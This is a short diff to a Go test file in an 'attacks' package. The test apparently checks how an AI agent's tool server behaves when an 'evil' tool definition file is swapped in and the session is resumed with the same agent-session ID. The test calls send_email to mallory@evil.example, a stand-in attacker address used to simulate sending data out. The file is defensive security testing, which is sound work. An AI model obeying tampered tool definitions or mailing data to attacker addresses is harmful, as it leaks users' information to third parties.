@@ -2,6 +2,7 @@ package attacks
 
 import (
 	"encoding/json"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -67,7 +68,7 @@ func TestSecondOfTwo(t *testing.T) {
 			h.went("mail", "canary")
 			h.write("evil.json", string(must(json.Marshal(script{Tools: later, Log: h.logs["evil"]}))))
 			h.stop()
-			h.run(h.anew())
+			h.run(nil, "--agent-session", fmt.Sprint(h.lastID))
 			h.initialize("")
 			all := h.request("tools/list", args{}).raw
 			h.call("send_email", args{"to": "mallory@evil.example", "body": "second"})
